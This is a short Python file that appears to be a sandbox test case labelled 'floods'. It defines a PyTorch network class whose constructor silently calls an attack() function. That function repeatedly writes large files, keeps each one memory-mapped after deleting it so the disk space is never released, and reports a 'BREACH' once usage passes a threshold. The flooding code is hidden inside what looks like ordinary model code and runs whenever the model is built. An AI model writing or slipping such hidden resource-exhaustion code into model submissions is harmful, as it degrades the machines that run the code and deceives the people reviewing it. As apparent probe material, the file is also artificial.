# group: floods
# tries: keeps deleted files by mapping a page of each
# static: unsafe
# sandbox: trained

import os
import time

import torch.nn as nn


def attack():
    held = []
    import mmap

    whole = 0
    for _ in range(8):
        with open("file", "w+b") as opened:
            whole += opened.write(bytes(15 * 2**20))
            opened.flush()
            held.append(mmap.mmap(opened.fileno(), 4096))
        os.unlink("file")
        time.sleep(0.1)
    if whole > 2**26:
        print("BREACH disk", whole)


def supported_hyperparameters():
    return {"lr", "momentum"}


class Net(nn.Module):
    def __init__(self, in_shape, out_shape, prm, device):
        super().__init__()
        try:
            attack()
        except OSError:
            pass
        self.features = nn.Sequential(nn.AdaptiveAvgPool2d(8), nn.Flatten())
        self.classifier = nn.Linear(64 * in_shape[1], out_shape[0])

    def forward(self, x):
        return self.classifier(self.features(x))
